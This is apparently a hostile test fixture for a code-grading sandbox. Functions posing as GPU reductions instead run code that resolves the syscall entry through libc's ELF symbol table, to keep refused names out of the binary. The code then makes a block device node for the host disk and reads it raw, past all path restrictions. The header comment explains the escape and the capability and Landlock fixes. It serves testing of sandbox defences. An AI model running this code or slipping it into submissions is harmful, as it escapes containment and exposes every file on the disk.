// expect: gpu=unwritten-output|crash emu=unwritten-output  args=--sizes=1000,--blocks=256 -- Has no kernel: makes a block device node for the disk that holds its folder (mknod in the folder it may write, the device number from a stat of it) and opens it: the raw disk, every file on it, read and written past every rule on paths.  Run as root the child had CAP_MKNOD, and Landlock gave its folder the right to make device nodes.  The emulator's graded process drops every capability (harness/run/drop_caps.c) and its folder may hold no device node (harness/run/landlock.c).  Graded by single-hostile.sh, which checks the refusal (as a user who is not root it is refused anyway).  Not yet on a GPU.
// mistake: no kernel; the raw disk opened through a device node of its own
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <elf.h>

// libc's own entry for `name`: the image holding fputs begins with an ELF
// header at a page boundary below it; its dynamic section leads to the
// symbol and string tables.  Nothing refused is named in this object.
static void *from_libc_table(const char *name)
{
    uintptr_t at = (uintptr_t)(void *)&fputs & ~(uintptr_t)0xfff;
    for (; std::memcmp((const void *)at, ELFMAG, SELFMAG) != 0; at -= 0x1000) {
    }
    const Elf64_Ehdr *head = (const Elf64_Ehdr *)at;
    const Elf64_Dyn *dyn = nullptr;
    for (int i = 0; i < head->e_phnum; i++) {
        const Elf64_Phdr *seg = (const Elf64_Phdr *)(at + head->e_phoff) + i;
        if (seg->p_type == PT_DYNAMIC)
            dyn = (const Elf64_Dyn *)(at + seg->p_vaddr);
    }
    const Elf64_Sym *table = nullptr;
    const char *text = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t p = dyn->d_un.d_ptr;
        if (p < at)
            p += at;
        if (dyn->d_tag == DT_SYMTAB)
            table = (const Elf64_Sym *)p;
        else if (dyn->d_tag == DT_STRTAB)
            text = (const char *)p;
    }
    if (!table || !text)
        return nullptr;
    for (const Elf64_Sym *s = table + 1; (const char *)s < text; s++)
        if (s->st_shndx != SHN_UNDEF && std::strcmp(text + s->st_name, name) == 0)
            return (void *)(at + s->st_value);
    return nullptr;
}

typedef long (*sys_fn)(long, ...);
#include <cerrno>
static long sys(long nr, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0)
{
    static sys_fn call = (sys_fn)from_libc_table("syscall");
    return call ? call(nr, a, b, c, d, e, f) : -1;
}
#include <sys/syscall.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <fcntl.h>
#include <unistd.h>

// A block device node for the disk that holds its own folder, made in
// that folder (which it may write), then opened: the raw disk, every
// file of it, past every rule on paths.  As root the child had CAP_MKNOD.
// It reads the first sector only and says what it got.
static void attack()
{
    struct stat here;
    long st = sys(SYS_newfstatat, AT_FDCWD, (long)".", (long)&here, 0);
    long made = st == 0 ? sys(SYS_mknodat, AT_FDCWD, (long)"disk-node", S_IFBLK | 0600, (long)here.st_dev) : -1;
    int why = made == 0 ? 0 : errno;
    long fd = made == 0 ? sys(SYS_openat, AT_FDCWD, (long)"disk-node", O_RDONLY) : -1;
    char sector[512];
    long got = fd >= 0 ? sys(SYS_read, fd, (long)sector, (long)sizeof sector) : -1;
    sys(SYS_unlinkat, AT_FDCWD, (long)"disk-node", 0);
    if (got == (long)sizeof sector)
        printf("node made, raw disk read\n");
    else if (made == 0)
        printf("node made, not read (errno %d)\n", errno);
    else
        printf("node refused (errno %d)\n", why);
    fflush(stdout);
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    static bool done;
    if (!done) {
        done = true;
        attack();
    }
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    sum_atomic(d_input, d_result, n, block);
}
